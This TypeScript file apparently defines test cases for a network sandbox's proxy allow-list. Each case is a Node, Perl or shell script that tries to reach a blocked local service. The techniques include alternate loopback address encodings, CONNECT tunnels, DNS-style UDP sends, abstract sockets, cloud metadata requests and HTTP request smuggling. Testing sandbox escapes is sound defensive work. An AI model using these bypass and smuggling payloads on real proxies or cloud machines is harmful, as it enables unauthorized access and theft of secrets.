/** A small program that tries to reach what is not on its list. Prints `ESCAPED` when it could, and `held` when it could not. */
export interface NetworkAttack {
  readonly name: string;
  /** For `sh`, with the places of its victims in its environment. */
  readonly script: string;
  /** Hosts that it may reach. */
  readonly allow: readonly string[];
}

/** What attacks on the network are after, besides the other instance's `OTHER_PORT`. */
export interface NetworkVictims {
  /** A port that is allowed, with something harmless behind it. */
  readonly ALLOWED_PORT: string;
  /** A UDP port that answers, as a server of names does. */
  readonly DNS_PORT: string;
  /** Name of an abstract socket of the machine. */
  readonly ABSTRACT: string;
  /** The machine's own name, which leads to itself. */
  readonly MACHINE: string;
}

const HARMLESS = ['127.0.0.1:$ALLOWED_PORT'];
const tries = (command: string) => `if (${command}) >/dev/null 2>&1; then echo ESCAPED; else echo held; fi`;
const node = (program: string) => tries(`node -e '${program}'`);
type Way = 'direct' | 'request' | 'tunnel';

/** Asks a host for its secret: past any proxy, or by the one that there is. With nothing but Node, which every place has. */
const reaches = (way: Way, host: string) => `TARGET="${host}" WAY=${way} node -e '
  const { HTTP_PROXY: proxy, TARGET: host, OTHER_PORT: port, WAY: way } = process.env;
  const isDirect = way === "direct" || proxy === undefined;
  const place = isDirect ? { host: host.replace(/[\\[\\]]/g, ""), port } : { host: "127.0.0.1", port: new URL(proxy).port };
  const socket = require("net").connect(place);
  const target = host + ":" + port;
  const get = "GET " + (isDirect || way === "tunnel" ? "/" : "http://" + target + "/") + " HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n";
  socket.write(isDirect || way === "request" ? get : "CONNECT " + target + " HTTP/1.1\\r\\n\\r\\n" + get);
  let text = "";
  socket.on("error", () => undefined).on("data", (bytes) => (text += bytes)).setTimeout(10000, () => socket.destroy());
  socket.on("close", () => console.log(text.includes("secret") ? "ESCAPED" : "held"));
'`;

/** With an allow-list all of these are held, and a plain process can do them. */
export const NETWORK_ATTACKS: readonly NetworkAttack[] = [
  {
    name: "connects to another instance's port past the proxy",
    allow: HARMLESS,
    script: reaches('direct', '127.0.0.1'),
  },
  {
    name: 'connects to the address of the machine past the proxy',
    allow: HARMLESS,
    script: reaches('direct', '$MACHINE'),
  },
  { name: 'asks the proxy for it', allow: HARMLESS, script: reaches('request', '127.0.0.1') },
  { name: 'asks the proxy for a tunnel to it', allow: HARMLESS, script: reaches('tunnel', '127.0.0.1') },
  ...['2130706433', '0x7f000001', '0177.0.0.1', '127.1', '[::ffff:127.0.0.1]'].map((host) => ({
    name: `writes its address as ${host}`,
    allow: HARMLESS,
    script: reaches('tunnel', host),
  })),
  {
    name: 'finds it behind an allowed name that leads to the machine itself',
    allow: ['$MACHINE:$OTHER_PORT'],
    script: reaches('tunnel', '$MACHINE'),
  },
  {
    name: 'asks a server of names, in which anything can be hidden',
    allow: HARMLESS,
    script: node(
      'const s = require("dgram").createSocket("udp4"); s.on("message", () => process.exit(0)); s.on("error", () => process.exit(1)); s.send("secret", process.env.DNS_PORT, "127.0.0.1"); setTimeout(() => process.exit(1), 3000)',
    ),
  },
  {
    name: 'finds an abstract socket of the machine',
    allow: HARMLESS,
    script: tries(
      `perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or exit 1; connect($s, pack("S a*", AF_UNIX, "\\0" . $ENV{ABSTRACT})) or exit 1'`,
    ),
  },
  {
    name: 'has another network device',
    allow: HARMLESS,
    script: tries("tail -n +3 /proc/net/dev | grep -qv '^ *lo:'"),
  },
];

const smuggle = (header: string) => `node -e '
  const net = require("net");
  const { HTTP_PROXY: proxy = "http://127.0.0.1:1", ALLOWED_PORT: allowed, OTHER_PORT: other } = process.env;
  const inner = "GET http://127.0.0.1:" + other + "/ HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n";
  const outer = "POST http://127.0.0.1:" + allowed + "/ HTTP/1.1\\r\\nHost: 127.0.0.1:" + other + "\\r\\n${header}\\r\\n0\\r\\n\\r\\n";
  const socket = net.connect(new URL(proxy).port, "127.0.0.1", () => socket.end(outer + inner));
  let text = "";
  socket.on("error", () => undefined).on("data", (chunk) => (text += chunk));
  socket.on("close", () => console.log(text.includes("secret") ? "ESCAPED" : "held"));
'`;

/** Of use only against a proxy: there is nothing like it for a plain process. */
export const PROXY_ATTACKS: readonly NetworkAttack[] = [
  {
    name: 'asks for the secrets of a machine of a cloud',
    allow: HARMLESS,
    script: reaches('request', '169.254.169.254'),
  },
  {
    name: 'hides a request behind two lengths',
    allow: HARMLESS,
    script: smuggle('Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n'),
  },
  {
    name: 'hides a request behind a folded header',
    allow: HARMLESS,
    script: smuggle('X-A: b\\r\\n Transfer-Encoding: chunked\\r\\n'),
  },
  { name: 'names another host in a header', allow: HARMLESS, script: smuggle('Content-Length: 5\\r\\n') },
];
